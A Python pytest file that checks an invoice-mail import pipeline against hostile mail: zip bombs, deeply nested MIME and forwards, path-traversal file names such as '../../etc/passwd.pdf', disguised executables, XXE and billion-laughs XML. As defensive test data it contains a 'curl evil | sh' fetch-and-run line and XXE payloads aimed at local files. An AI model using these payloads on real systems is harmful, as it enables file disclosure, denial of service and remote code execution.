"""Hostile mail through ``decide`` (and ``mime.parse`` / ``extract`` where useful): zip bombs,
deep MIME and forward nesting, huge part counts and attachments, path traversal in file names,
executables in disguise, XXE and entity expansion, broken base64, non-invoice e-business XML,
images, and import rules. Every test checks the verdict and that the reason names the problem.
"""

from __future__ import annotations

import base64
import email.utils
import hashlib
import io
import quopri
import unicodedata
import uuid
import zipfile
from pathlib import Path

import pytest
from einvoice_samples import BILLION_LAUGHS, ORDER_X, pdf_with_files, xxe

from builders import (
    Attachment,
    make_forward,
    make_mail,
    make_pdf,
    make_sized_pdf,
    make_tnef,
    make_zip,
)
from corpus import CORPUS
from invoice_inbox.pipeline import extract, mime
from invoice_inbox.pipeline.containers import ZipLimits
from invoice_inbox.pipeline.decide import Decision, Policy, Verdict, decide
from invoice_inbox.pipeline.rules import Rule

PDF = make_pdf("Invoice 4711")
MIB = 1024 * 1024
SENDER = "billing@supplier.example"
# The smallest bytes the pipeline judges to be a JPEG (it reads the magic number only).
JPEG = b"\xff\xd8\xff\xe0\x00\x10JFIF\x00\x01\x01\x00\x00\x01\x00\x01\x00\x00" + bytes(64)
JPEG += b"\xff\xd9"
SKIP_NEWS = Rule.make("skip-newsletters", "*@supplier.example", "Newsletter", "skip")
ATTACH_ALL = Rule.make("supplier-attachments", "*@supplier.example")
BODY_BILL = Rule.make("hoster-body", SENDER, "your bill", "body")


# -- helpers ---------------------------------------------------------------------------------


def crlf_base64(data: bytes) -> bytes:
    return base64.encodebytes(data).replace(b"\n", b"\r\n")


def part(
    params: bytes,
    data: bytes,
    content_type: bytes = b"application/pdf",
    disposition: bytes = b"attachment",
) -> bytes:
    """One raw base64 MIME part; *params* are the raw Content-Disposition parameters."""
    return (
        b"Content-Type: " + content_type + b"\r\n"
        b"Content-Disposition: " + disposition + b"; " + params + b"\r\n"
        b"Content-Transfer-Encoding: base64\r\n\r\n" + crlf_base64(data)
    )


def raw_mail(*parts: bytes, subject: bytes = b"Invoice", sender: bytes = SENDER.encode()) -> bytes:
    """A hand-written multipart/mixed mail, for headers the builders refuse to write."""
    out = [
        b"From: Billing <" + sender + b">\r\nTo: ap@buyer.example\r\nSubject: " + subject + b"\r\n"
        b"Date: Mon, 04 Mar 2024 10:00:00 +0100\r\nMIME-Version: 1.0\r\n"
        b'Content-Type: multipart/mixed; boundary="=_b"\r\n\r\n'
        b"--=_b\r\nContent-Type: text/plain; charset=utf-8\r\n\r\nSee attached.\r\n"
    ]
    out += [b"--=_b\r\n" + p for p in parts]
    out.append(b"--=_b--\r\n")
    return b"".join(out)


def html_only_mail(html: str, *, subject: str = "Your bill", sender: str = SENDER) -> bytes:
    return (
        f"From: Hoster <{sender}>\r\nTo: ap@buyer.example\r\nSubject: {subject}\r\n"
        "Date: Mon, 04 Mar 2024 10:00:00 +0100\r\nMIME-Version: 1.0\r\n"
        "Content-Type: text/html; charset=utf-8\r\n\r\n"
        f"{html}\r\n"
    ).encode()


def assert_safe_component(name: str) -> None:
    """A document file name: one path component, nothing a shell or terminal would act on."""
    assert name, "empty name"
    assert name not in (".", "..")
    assert "/" not in name and "\\" not in name, name
    assert not name.startswith("."), name
    assert not any(unicodedata.category(c) == "Cc" for c in name), repr(name)
    assert len(name) <= 150, len(name)


def decision_text(d: Decision) -> bytes:
    """Everything a Decision carries, as bytes, to look for leaked content."""
    text = repr(d) + repr([(s.name, s.reason) for s in d.skipped])
    return text.encode("utf-8", "replace") + b"".join(doc.data for doc in d.documents)


def zip_of_zeros(name: str, size: int) -> bytes:
    """A deflated entry of *size* zero bytes, written in chunks so the test stays small."""
    buffer = io.BytesIO()
    zeros = bytes(MIB)
    with (
        zipfile.ZipFile(buffer, "w", zipfile.ZIP_DEFLATED) as archive,
        archive.open(name, "w", force_zip64=True) as member,
    ):
        for _ in range(size // MIB):
            member.write(zeros)
    return buffer.getvalue()


# -- archives --------------------------------------------------------------------------------


def test_zip_bomb_is_quarantined_naming_the_archive() -> None:
    bomb = zip_of_zeros("invoice.pdf", 200 * MIB)
    assert len(bomb) < 1 * MIB
    d = decide(make_mail(attachments=[Attachment("bomb.zip", bomb, "application/zip")]))
    assert d.verdict is Verdict.QUARANTINED
    assert d.reason.startswith("bomb.zip: ")
    assert "zip bomb" in d.reason and "'invoice.pdf'" in d.reason
    assert d.documents == ()


def test_zip_nested_five_deep_is_quarantined_for_nesting() -> None:
    data = make_zip({"invoice.pdf": PDF})
    for level in range(1, 5):
        data = make_zip({f"level{level}.zip": data})
    d = decide(make_mail(attachments=[Attachment("deep.zip", data, "application/zip")]))
    assert d.verdict is Verdict.QUARANTINED
    assert d.reason.startswith("deep.zip/level4.zip/level3.zip")
    assert "nested more than 3 deep" in d.reason


def test_zip_with_too_many_entries_is_quarantined() -> None:
    many = make_zip({f"note-{i}.txt": b"x" for i in range(1000)} | {"invoice.pdf": PDF})
    d = decide(make_mail(attachments=[Attachment("many.zip", many, "application/zip")]))
    assert d.verdict is Verdict.QUARANTINED
    assert d.reason == "many.zip: ZIP has 1001 entries; the limit is 200"


def _nested_pdf_zips(count: int, pdfs: int, size: int) -> bytes:
    """A ZIP of *count* ZIPs, each of *pdfs* distinct PDF-headed files of *size* bytes."""
    inner = {}
    for k in range(count):
        files = {}
        for i in range(pdfs):
            head = b"%%PDF-1.4\n%% %d-%d\n" % (k, i)
            files[f"inv-{k}-{i}.pdf"] = head + bytes(size - len(head))
        inner[f"part{k}.zip"] = make_zip(files)
    return make_zip(inner)


def test_nested_archives_share_one_total_size_limit() -> None:
    # scaled down: a 1 MB total limit, 3 inner archives of 9 x 100 kB each
    data = _nested_pdf_zips(count=3, pdfs=9, size=100_000)
    parsed = mime.parse(make_mail(attachments=[Attachment("all.zip", data, "application/zip")]))
    options = extract.Options(zip_limits=ZipLimits(max_total_size=1_000_000))
    with pytest.raises(extract.Unreadable, match=r"^all\.zip.*size limit"):
        extract.extract(parsed, options)


# -- MIME structure --------------------------------------------------------------------------


def deep_multipart(levels: int) -> bytes:
    out = [b"From: Billing <billing@supplier.example>\r\nSubject: deep\r\nMIME-Version: 1.0\r\n"]
    for i in range(levels):
        out.append(b'Content-Type: multipart/mixed; boundary="b%d"\r\n\r\n--b%d\r\n' % (i, i))
    out.append(part(b'filename="deep.pdf"', PDF))
    out += [b"\r\n--b%d--\r\n" % i for i in reversed(range(levels))]
    return b"".join(out)


def test_mime_nested_1000_deep_is_quarantined_for_nesting() -> None:
    raw = deep_multipart(1000)
    with pytest.raises(mime.MessageTooComplex, match="nested too deeply"):
        mime.parse(raw)
    d = decide(raw)
    assert d.verdict is Verdict.QUARANTINED
    assert d.reason == "the MIME structure is nested too deeply to read"
    assert d.headers is not None and d.headers.sender == SENDER


def test_mime_nested_50_deep_is_still_read() -> None:
    d = decide(deep_multipart(50))
    assert d.verdict is Verdict.IMPORT
    assert [(x.filename, x.data) for x in d.documents] == [("deep.pdf", PDF)]


def forward_chain(depth: int) -> bytes:
    """An invoice mail from the supplier, forwarded *depth* times (message/rfc822)."""
    raw = make_mail(
        from_="Supplier <invoices@supplier.example>",
        date="Fri, 01 Mar 2024 09:30:00 +0100",
        attachments=[Attachment("innermost.pdf", PDF)],
    )
    for level in range(1, depth + 1):
        raw = make_forward(raw, from_=f"Clerk {level} <clerk{level}@buyer.example>")
    return raw


def test_forwards_nested_30_deep_are_quarantined() -> None:
    d = decide(forward_chain(30))
    assert d.verdict is Verdict.QUARANTINED
    assert d.reason == f"forwarded mails are nested more than {mime.MAX_FORWARD_DEPTH} levels deep"


@pytest.mark.parametrize("cte", ["base64", "quoted-printable"])
def test_encoded_forwarded_mail_is_read(cte: str) -> None:
    inner = make_mail(from_="invoices@supplier.example", attachments=[Attachment("x.pdf", PDF)])
    encoded = crlf_base64(inner) if cte == "base64" else quopri.encodestring(inner)
    raw = raw_mail(
        b"Content-Type: message/rfc822\r\nContent-Transfer-Encoding: "
        + cte.encode()
        + b"\r\n\r\n"
        + encoded,
        sender=b"clerk@buyer.example",
    )
    d = decide(raw)
    assert d.verdict is Verdict.IMPORT
    assert [(x.filename, x.data, x.origin_sender) for x in d.documents] == [
        ("x.pdf", PDF, "invoices@supplier.example")
    ]


def test_forwards_nested_3_deep_import_the_innermost_pdf_with_its_sender() -> None:
    d = decide(forward_chain(3))
    assert d.verdict is Verdict.IMPORT
    assert d.headers is not None and d.headers.sender == "clerk3@buyer.example"
    [doc] = d.documents
    assert (doc.filename, doc.data) == ("innermost.pdf", PDF)
    assert doc.origin_sender == "invoices@supplier.example"
    assert doc.origin_date == email.utils.parsedate_to_datetime("Fri, 01 Mar 2024 09:30:00 +0100")


def test_a_thousand_parts_one_pdf() -> None:
    notes = [Attachment(f"note-{i}.txt", b"note %d\n" % i, "text/plain") for i in range(999)]
    d = decide(make_mail(attachments=[*notes[:500], Attachment("invoice.pdf", PDF), *notes[500:]]))
    assert d.verdict is Verdict.IMPORT
    assert [(x.filename, x.data) for x in d.documents] == [("invoice.pdf", PDF)]
    assert d.reason == f"1 document from {SENDER}: invoice.pdf"
    assert [s.name for s in d.skipped] == [f"note-{i}.txt" for i in range(999)]
    assert {s.reason for s in d.skipped} == {"not a PDF or e-invoice (text/plain)"}


def test_more_parts_than_the_limit_are_quarantined() -> None:
    head = b"Content-Type: text/plain\r\n\r\nx\r\n"
    raw = raw_mail(*[head] * (mime.MAX_PARTS + 1))
    d = decide(raw)
    assert d.verdict is Verdict.QUARANTINED
    assert d.reason == f"the message has more than {mime.MAX_PARTS} parts"


def test_50_mb_pdf_is_imported_exactly() -> None:
    pdf = make_sized_pdf(50 * MIB)
    d = decide(raw_mail(part(b'filename="scan-50mb.pdf"', pdf)))
    assert d.verdict is Verdict.IMPORT
    [doc] = d.documents
    assert doc.filename == "scan-50mb.pdf"
    assert doc.size == 50 * MIB
    assert doc.sha256 == hashlib.sha256(pdf).hexdigest()


# -- headers --------------------------------------------------------------------------------

BUG_PREFIXES = ("could not read the message (", "could not read the message headers")


def with_header(raw: bytes, name: bytes, value: bytes) -> bytes:
    """*raw* with the (first) header *name* replaced by *value*, continuation lines included."""
    start = 0 if raw.startswith(name + b": ") else raw.index(b"\r\n" + name + b": ") + 2
    end = raw.index(b"\r\n", start)
    while raw[end + 2 : end + 3] in (b" ", b"\t"):
        end = raw.index(b"\r\n", end + 2)
    return raw[:start] + name + b": " + value + raw[end:]


@pytest.mark.parametrize(
    ("header", "value"),
    [
        (b"Subject", b"=?x-no-such-charset?q?Invoice?="),
        (b"Subject", b"=?utf-8?q?unterminated"),
        (b"Subject", b"x" * 1_000_000),
        (b"Date", b"Feb 30 2024 25:61:61 +9999"),
        (b"Date", b"(" * 10_000),
        (b"From", b"<" * 100_000),
        (b"From", b'"' * 100_000),
        (b"Content-Disposition", b"attachment; filename*=x-no-such-charset''a.pdf"),
        (b"Subject", b"=?utf\x008?q?Invoice?="),
        (b"Subject", b"=?undefined?q?Invoice?="),
        (b"From", b"=?undefined?q?Billing?= <billing@supplier.example>"),
        (b"Content-Disposition", b"attachment; filename*=utf\x008''a.pdf"),
        (b"Content-Disposition", b"attachment; filename*=idna''a.pdf"),
        (b"Date", b"Mon, 1 Jan 99999999999999999999 00:00:00 +0000"),
        (b"From", b"(" * 5_000 + b"billing@supplier.example"),
    ],
)
def test_hostile_header_values_do_not_stop_the_invoice(header: bytes, value: bytes) -> None:
    raw = with_header(make_mail(attachments=[Attachment("a.pdf", PDF)]), header, value)
    d = decide(raw)
    assert not d.reason.startswith(BUG_PREFIXES), d.reason
    assert d.verdict is Verdict.IMPORT
    assert [x.data for x in d.documents] == [PDF]


@pytest.mark.parametrize(
    "charset",
    [
        b"x-no-such-charset",
        b"utf-8",
        (b"undefined"),
        (b"u\x00"),
    ],
)
def test_hostile_body_charset_is_read_for_rules(charset: bytes) -> None:
    raw = make_mail(body="Newsletter", attachments=[Attachment("a.pdf", PDF)])
    raw = raw.replace(b'charset="utf-8"', b'charset="' + charset + b'"', 1)
    d = decide(raw, Policy(rules=(SKIP_NEWS,)))
    assert not d.reason.startswith(BUG_PREFIXES), d.reason
    assert d.verdict is Verdict.NOT_IMPORTED
    assert d.rule == "skip-newsletters"


# -- file names ------------------------------------------------------------------------------

HOSTILE_PARAMS = {
    "unix traversal": b'filename="../../etc/passwd.pdf"',
    "windows traversal": b'filename="..\\\\..\\\\win.ini.pdf"',
    "windows traversal unquoted": b"filename=..\\..\\win.ini.pdf",
    "absolute": b'filename="/abs/x.pdf"',
    "drive letter": b'filename="C:\\\\x\\\\y.pdf"',
    "NUL and ESC": b'filename="a\x00b\x1b[31mc.pdf"',
    "CR LF": b"filename*=utf-8''inv%0D%0Aoice%0D.pdf",
    "RFC 2231 traversal": b"filename*=utf-8''%2e%2e%2f%2e%2e%2fetc%2fpasswd.pdf",
    "RFC 2231 backslash traversal": b"filename*=utf-8''%2e%2e%5c%2e%2e%5cwin.ini.pdf",
    "RFC 2231 continuation": b"filename*0*=utf-8''%2e%2e%2f;filename*1=%2e%2e%2fx.pdf",
    "RFC 2047 traversal": b'filename="=?utf-8?q?=2E=2E=2F=2E=2E=2Fx=0D=0Ay.pdf?="',
    "hidden": b'filename=".hidden.pdf"',
    "only dots": b'filename="..."',
    "10,000 chars": b'filename="' + b"A" * 10_000 + b'.pdf"',
}


@pytest.mark.parametrize("params", HOSTILE_PARAMS.values(), ids=HOSTILE_PARAMS.keys())
def test_mime_attachment_names_become_one_safe_component(params: bytes) -> None:
    d = decide(raw_mail(part(params, PDF)))
    assert d.verdict is Verdict.IMPORT
    [doc] = d.documents
    assert_safe_component(doc.filename)
    assert doc.filename in d.reason


def test_names_keep_their_last_component_and_extension() -> None:
    names = [
        decide(raw_mail(part(params, PDF))).documents[0].filename
        for params in HOSTILE_PARAMS.values()
    ]
    assert names[:5] == ["passwd.pdf", "win.ini.pdf", "win.ini.pdf", "x.pdf", "y.pdf"]
    assert names[7] == "passwd.pdf"  # the RFC 2231 traversal, once decoded
    assert names[-1] == "A" * 146 + ".pdf"


CONTAINER_NAMES = [
    "../../etc/passwd.pdf",
    "..\\..\\win.ini.pdf",
    "/abs/x.pdf",
    "C:\\x\\y.pdf",
    "a\x1b[31mb\r\nc.pdf",
    ".hidden.pdf",
    "\x7f.pdf",
    "B" * 10_000 + ".pdf",
]


def test_zip_entry_names_become_one_safe_component() -> None:
    files = {name: make_pdf(f"zip {i}") for i, name in enumerate(CONTAINER_NAMES)}
    d = decide(make_mail(attachments=[Attachment("x.zip", make_zip(files), "application/zip")]))
    assert d.verdict is Verdict.IMPORT
    assert len(d.documents) == len(files)
    for doc in d.documents:
        assert_safe_component(doc.filename)
    assert d.documents[0].filename == "passwd.pdf"


def test_tnef_attachment_names_become_one_safe_component() -> None:
    files = {name: make_pdf(f"tnef {i}") for i, name in enumerate(CONTAINER_NAMES)}
    tnef = make_tnef(files)
    d = decide(make_mail(attachments=[Attachment("winmail.dat", tnef, "application/ms-tnef")]))
    assert d.verdict is Verdict.IMPORT
    assert len(d.documents) == len(files)
    for doc in d.documents:
        assert_safe_component(doc.filename)
    assert [doc.filename for doc in d.documents][:4] == [
        "passwd.pdf",
        "win.ini.pdf",
        "x.pdf",
        "y.pdf",
    ]


@pytest.mark.parametrize("where", ["mime", "zip", "tnef"])
def test_dot_space_dot_names_do_not_become_dot_names(where: str) -> None:
    name = ". .."
    attachment = {
        "mime": Attachment(name, PDF),
        "zip": Attachment("x.zip", make_zip({name: PDF}), "application/zip"),
        "tnef": Attachment("winmail.dat", make_tnef({name: PDF}), "application/ms-tnef"),
    }[where]
    d = decide(make_mail(attachments=[attachment]))
    [doc] = d.documents
    assert_safe_component(doc.filename)


def test_c1_control_characters_are_removed_from_names() -> None:
    d = decide(raw_mail(part(b"filename*=utf-8''inv%C2%9B31moice%C2%85.pdf", PDF)))
    [doc] = d.documents
    assert_safe_component(doc.filename)


# -- executables -----------------------------------------------------------------------------

NEVER = {
    "PE renamed .pdf": Attachment("invoice.pdf", b"MZ\x90\x00\x03" + bytes(200), "application/pdf"),
    "ELF": Attachment("invoice.pdf", b"\x7fELF\x02\x01\x01" + bytes(200), "application/pdf"),
    "shell script": Attachment("invoice.pdf", b"#!/bin/sh\ncurl evil | sh\n", "application/pdf"),
    "js": Attachment("invoice.js", b"WScript.Echo('hello');", "application/javascript"),
    "js holding PDF bytes": Attachment("invoice.pdf.js", PDF, "application/pdf"),
    "docm": Attachment(
        "invoice.docm",
        make_zip({"[Content_Types].xml": b"<Types/>", "word/vbaProject.bin": b"\x00"}),
        "application/vnd.ms-word.document.macroEnabled.12",
    ),
    "ole .doc": Attachment("invoice.doc", b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + bytes(100)),
}


@pytest.mark.parametrize("require_pdf", [True, False], ids=["pdf-only", "any-attachment"])
@pytest.mark.parametrize("attachment", NEVER.values(), ids=NEVER.keys())
def test_executables_are_never_documents(attachment: Attachment, require_pdf: bool) -> None:
    d = decide(make_mail(attachments=[attachment]), Policy(require_pdf=require_pdf))
    assert d.verdict is Verdict.NOT_IMPORTED
    assert d.documents == ()
    assert d.reason == f"no PDF or e-invoice attachment (found: {attachment.filename})"
    [skipped] = d.skipped
    assert skipped.name == attachment.filename
    assert skipped.reason == "executable, script or macro file: never a document"


def test_executables_inside_archives_are_never_documents() -> None:
    archive = make_zip({"setup.exe": b"MZ" + bytes(64), "run.js": b"x()", "invoice.pdf": PDF})
    d = decide(
        make_mail(attachments=[Attachment("a.zip", archive, "application/zip")]),
        Policy(require_pdf=False),
    )
    assert d.verdict is Verdict.IMPORT
    assert [x.filename for x in d.documents] == ["invoice.pdf"]
    assert {s.name: s.reason for s in d.skipped} == {
        "a.zip/setup.exe": "executable, script or macro file: never a document",
        "a.zip/run.js": "executable, script or macro file: never a document",
    }


@pytest.mark.parametrize("name", ["invoice.js.", "invoice.vbs. ."])
def test_trailing_dots_do_not_hide_a_script(name: str) -> None:
    script = Attachment(name, b"WScript.Echo('pwned');", "application/octet-stream")
    d = decide(make_mail(attachments=[script]), Policy(require_pdf=False))
    assert d.documents == ()
    assert d.verdict is Verdict.NOT_IMPORTED


# -- XML: XXE, entity expansion, non-invoices ------------------------------------------------

DOCTYPE_REFUSED = "XML declares a DOCTYPE (entities are refused)"


@pytest.fixture
def secret(tmp_path: Path) -> tuple[str, str]:
    """A local file with a unique marker, and its file:// URL, for XXE attempts."""
    marker = f"SECRET-{uuid.uuid4().hex}"
    path = tmp_path / "secret.txt"
    path.write_text(marker)
    return marker, path.as_uri()


def hostile_xml(kind: str, url: str) -> bytes:
    if kind == "xxe":
        return xxe(url)
    if kind == "xxe-utf16":
        return xxe(url).replace(b'encoding="UTF-8"', b'encoding="UTF-16"').decode().encode("utf-16")
    if kind == "external-dtd":
        return (
            f'<?xml version="1.0"?>\n<!DOCTYPE Invoice SYSTEM "{url}">\n'
            '<Invoice xmlns="urn:oasis:names:specification:ubl:schema:xsd:Invoice-2"/>'
        ).encode()
    return BILLION_LAUGHS


XML_KINDS = ["xxe", "xxe-utf16", "external-dtd", "billion-laughs"]


@pytest.mark.parametrize("kind", XML_KINDS)
def test_hostile_xml_attachment_is_quarantined(kind: str, secret: tuple[str, str]) -> None:
    _, url = secret
    for content_type in ("application/xml", "text/xml", "application/octet-stream"):
        attachment = Attachment("invoice.xml", hostile_xml(kind, url), content_type)
        d = decide(make_mail(attachments=[attachment]))
        assert d.verdict is Verdict.QUARANTINED
        assert d.reason == f"invoice.xml: {DOCTYPE_REFUSED}"


@pytest.mark.parametrize("kind", XML_KINDS)
def test_hostile_xml_attachment_leaks_nothing(kind: str, secret: tuple[str, str]) -> None:
    marker, url = secret
    for content_type in ("application/xml", "text/plain"):
        attachment = Attachment("invoice.xml", hostile_xml(kind, url), content_type)
        d = decide(make_mail(attachments=[attachment]), Policy(require_pdf=False))
        assert d.verdict is not Verdict.IMPORT
        assert DOCTYPE_REFUSED in d.reason + repr(d.skipped)
        assert marker.encode() not in decision_text(d)


@pytest.mark.parametrize("kind", XML_KINDS)
def test_hostile_xml_embedded_in_pdf_leaves_a_plain_pdf(kind: str, secret: tuple[str, str]) -> None:
    marker, url = secret
    pdf = pdf_with_files(("factur-x.xml", hostile_xml(kind, url)))
    d = decide(make_mail(attachments=[Attachment("invoice.pdf", pdf)]))
    assert d.verdict is Verdict.IMPORT
    [doc] = d.documents
    assert (doc.kind, doc.einvoice, doc.data) == ("pdf", None, pdf)
    assert [(s.name, s.reason) for s in d.skipped] == [
        ("invoice.pdf", f"embedded e-invoice XML refused: {DOCTYPE_REFUSED}")
    ]
    assert marker.encode() not in decision_text(d)


def test_xinclude_is_not_followed(secret: tuple[str, str]) -> None:
    marker, url = secret
    doc = f"""<?xml version="1.0" encoding="UTF-8"?>
<Invoice xmlns="urn:oasis:names:specification:ubl:schema:xsd:Invoice-2"
    xmlns:cbc="urn:oasis:names:specification:ubl:schema:xsd:CommonBasicComponents-2"
    xmlns:xi="http://www.w3.org/2001/XInclude">
  <cbc:ID><xi:include href="{url}" parse="text"/></cbc:ID>
  <cbc:InvoiceTypeCode>380</cbc:InvoiceTypeCode>
</Invoice>
""".encode()
    for attachment in (
        Attachment("invoice.xml", doc, "application/xml"),
        Attachment("invoice.pdf", pdf_with_files(("factur-x.xml", doc))),
    ):
        d = decide(make_mail(attachments=[attachment]))
        assert d.verdict is Verdict.IMPORT
        assert marker.encode() not in decision_text(d)


def test_order_x_alone_is_not_an_invoice() -> None:
    d = decide(make_mail(attachments=[Attachment("order.xml", ORDER_X, "application/xml")]))
    assert d.verdict is Verdict.NOT_IMPORTED
    assert d.reason == "no PDF or e-invoice attachment (found: order.xml)"
    assert [(s.name, s.reason) for s in d.skipped] == [
        ("order.xml", "order-x document, not an invoice")
    ]


def test_order_x_in_a_pdf_is_a_plain_pdf() -> None:
    pdf = pdf_with_files(("order-x.xml", ORDER_X))
    d = decide(make_mail(attachments=[Attachment("order.pdf", pdf)]))
    assert d.verdict is Verdict.IMPORT
    assert [(x.kind, x.einvoice) for x in d.documents] == [("pdf", None)]
    assert "not an invoice" in d.skipped[0].reason


# -- broken transfer encoding ----------------------------------------------------------------


def broken_base64_mail(encoded: bytes) -> bytes:
    return raw_mail(
        b"Content-Type: application/pdf\r\n"
        b'Content-Disposition: attachment; filename="broken.pdf"\r\n'
        b"Content-Transfer-Encoding: base64\r\n\r\n" + encoded + b"\r\n"
    )


# A PDF with a length divisible by 3, so its base64 has no "=" padding to stop the decoder early.
PDF_3N = PDF + b"\n" * (-len(PDF) % 3)
ENCODED = base64.b64encode(PDF_3N)


def lines(encoded: bytes) -> bytes:
    """Base64 text in 76-character lines, as mail carries it."""
    return b"\r\n".join(encoded[i : i + 76] for i in range(0, len(encoded), 76))


BROKEN = {
    # one character of the last 4-character quantum left: nothing can decode it
    "truncated to 1 of 4": lines(ENCODED[:481]),
    # garbage on one line that leaves 4n+1 alphabet characters
    "garbage": lines(ENCODED[:230] + b"*!~A" + ENCODED[230:]),
}


@pytest.mark.parametrize("encoded", BROKEN.values(), ids=BROKEN.keys())
def test_undecodable_base64_is_quarantined_naming_the_attachment(encoded: bytes) -> None:
    raw = broken_base64_mail(encoded)
    [part_] = [p for p in mime.parse(raw).parts if p.filename]
    assert part_.damaged
    d = decide(raw)
    assert d.verdict is Verdict.QUARANTINED
    assert d.reason == "broken.pdf: the attachment's base64 encoding is damaged; it cannot be read"
    assert d.documents == ()


def test_garbage_in_single_line_base64_is_quarantined() -> None:
    d = decide(broken_base64_mail(ENCODED[:230] + b"*!~A" + ENCODED[230:]))
    assert d.verdict is Verdict.QUARANTINED
    assert "broken.pdf" in d.reason and "damaged" in d.reason


DAMAGED_BUT_DECODED = {
    # 2 or 3 characters of the last quantum: the decoder pads them, the PDF loses its end
    "truncated to 2 of 4": lines(ENCODED[:482]),
    "truncated to 3 of 4": lines(ENCODED[:483]),
    # alphabet characters among the garbage shift every later byte
    "garbage shifts the stream": lines(ENCODED[:230] + b"!!AB*" + ENCODED[230:]),
}


@pytest.mark.parametrize("encoded", DAMAGED_BUT_DECODED.values(), ids=DAMAGED_BUT_DECODED.keys())
def test_damaged_base64_pdf_is_imported_as_far_as_readable_and_says_so(encoded: bytes) -> None:
    raw = broken_base64_mail(encoded)
    [part_] = [p for p in mime.parse(raw).parts if p.filename]
    assert part_.damaged and part_.data.startswith(b"%PDF-") and part_.data != PDF_3N
    d = decide(raw)
    assert d.verdict is Verdict.IMPORT
    [doc] = d.documents
    assert doc.damaged and doc.data == part_.data
    assert d.reason.endswith("damaged in transfer, imported as far as readable: broken.pdf")


def test_text_parts_claiming_base64_are_not_quarantined() -> None:
    raw = (CORPUS / "enmime__mime-bad-content-transfer-encoding.eml").read_bytes()
    d = decide(raw)
    assert d.verdict is Verdict.NOT_IMPORTED
    assert d.reason == "no attachment"
    text = mime.parse(raw).parts[0]
    assert not text.damaged and text.data.startswith(b"ploozdect")


# -- images ----------------------------------------------------------------------------------


def test_jpeg_attachment_is_a_document_only_when_images_are_allowed() -> None:
    raw = make_mail(attachments=[Attachment("scan.jpg", JPEG, "image/jpeg")])
    d = decide(raw)
    assert d.verdict is Verdict.NOT_IMPORTED
    assert d.reason == "no PDF or e-invoice attachment (found: scan.jpg)"
    assert d.skipped[0].reason == "image (this source does not import images)"
    d = decide(raw, Policy(allow_images=True))
    assert d.verdict is Verdict.IMPORT
    assert [(x.filename, x.kind, x.media_type, x.data) for x in d.documents] == [
        ("scan.jpg", "image", "image/jpeg", JPEG)
    ]


def html_with_cid_logo(disposition: bytes | None) -> bytes:
    header = b"Content-Disposition: " + disposition + b"\r\n" if disposition else b""
    return (
        b"From: Billing <billing@supplier.example>\r\nTo: ap@buyer.example\r\n"
        b"Subject: Invoice 7\r\nMIME-Version: 1.0\r\n"
        b'Content-Type: multipart/related; boundary="R"\r\n\r\n'
        b"--R\r\nContent-Type: text/html; charset=utf-8\r\n\r\n"
        b'<html><body><img src="cid:logo@supplier"><p>Invoice 7</p></body></html>\r\n'
        b'--R\r\nContent-Type: image/jpeg; name="logo.jpg"\r\n' + header + b""
        b"Content-ID: <logo@supplier>\r\nContent-Transfer-Encoding: base64\r\n\r\n"
        + crlf_base64(JPEG)
        + b"--R--\r\n"
    )


@pytest.mark.parametrize("disposition", [b'inline; filename="logo.jpg"', None])
def test_inline_cid_image_is_not_a_document_even_with_images(disposition: bytes | None) -> None:
    d = decide(html_with_cid_logo(disposition), Policy(allow_images=True))
    assert d.verdict is Verdict.NOT_IMPORTED
    assert d.documents == ()
    assert [(s.name, s.reason) for s in d.skipped] == [("logo.jpg", "image shown in the mail text")]


# -- import rules ----------------------------------------------------------------------------


def test_first_matching_rule_wins() -> None:
    raw = make_mail(subject="Newsletter and invoice", attachments=[Attachment("a.pdf", PDF)])
    d = decide(raw, Policy(rules=(SKIP_NEWS, ATTACH_ALL)))
    assert (d.verdict, d.rule) == (Verdict.NOT_IMPORTED, "skip-newsletters")
    assert d.reason == "rule 'skip-newsletters' says not to import mail like this"
    d = decide(raw, Policy(rules=(ATTACH_ALL, SKIP_NEWS)))
    assert (d.verdict, d.rule) == (Verdict.IMPORT, "supplier-attachments")
    assert d.reason.startswith("rule 'supplier-attachments': 1 document")
    assert [(x.filename, x.rule) for x in d.documents] == [("a.pdf", "supplier-attachments")]


@pytest.mark.parametrize(
    ("subject", "body", "html"),
    [
        ("MONTHLY NEWSLETTER", "plain", None),
        ("Hello", "our newsletter, as every month", None),
        ("Hello", "our nEWSLETTER", "<p>our <b>NewsLetter</b></p>"),
        ("Hello", "no keyword here", None),
    ],
)
def test_keyword_matches_subject_or_body_ignoring_case(
    subject: str, body: str, html: str | None
) -> None:
    raw = make_mail(subject=subject, body=body, html=html, attachments=[Attachment("a.pdf", PDF)])
    d = decide(raw, Policy(rules=(SKIP_NEWS,)))
    if "keyword" not in body:
        assert (d.verdict, d.rule) == (Verdict.NOT_IMPORTED, "skip-newsletters")
        assert d.reason == "rule 'skip-newsletters' says not to import mail like this"
    else:
        assert (d.verdict, d.rule, d.reason) == (
            Verdict.IMPORT,
            None,
            f"1 document from {SENDER}: a.pdf",
        )


def test_keyword_in_html_only_body_matches_without_tags() -> None:
    raw = html_only_mail("<p>Our <b>news</b><i>letter</i>: the <span>NEWSLETTER</span></p>")
    d = decide(raw, Policy(rules=(SKIP_NEWS,)))
    assert (d.verdict, d.rule) == (Verdict.NOT_IMPORTED, "skip-newsletters")
    other = decide(raw, Policy(rules=(Rule.make("x", "*@elsewhere.example", None, "skip"),)))
    assert other.rule is None and other.reason == "no attachment"


def test_body_rule_renders_an_html_only_mail() -> None:
    raw = html_only_mail("<h1>Your bill for March</h1><p>Amount due: 12.00 EUR</p>")
    d = decide(raw, Policy(rules=(SKIP_NEWS, BODY_BILL)))
    assert d.verdict is Verdict.IMPORT
    [doc] = d.documents
    assert (doc.kind, doc.rule, doc.filename) == ("body_pdf", "hoster-body", "Your bill.pdf")
    assert doc.data.startswith(b"%PDF-")
    assert d.reason == f"rule 'hoster-body': 1 document from {SENDER}: Your bill.pdf"


def test_body_fallback_only_without_a_document_attachment() -> None:
    policy = Policy(body_fallback=True)
    with_pdf = decide(make_mail(attachments=[Attachment("a.pdf", PDF)]), policy)
    assert [(x.filename, x.kind) for x in with_pdf.documents] == [("a.pdf", "pdf")]
    only_text = make_mail(subject="Bill 12", attachments=[Attachment("n.txt", b"x", "text/plain")])
    d = decide(only_text, policy)
    assert d.verdict is Verdict.IMPORT
    [doc] = d.documents
    assert (doc.kind, doc.filename, doc.rule) == ("body_pdf", "Bill 12.pdf", None)
    assert doc.data.startswith(b"%PDF-")
    assert [s.name for s in d.skipped] == ["n.txt"]
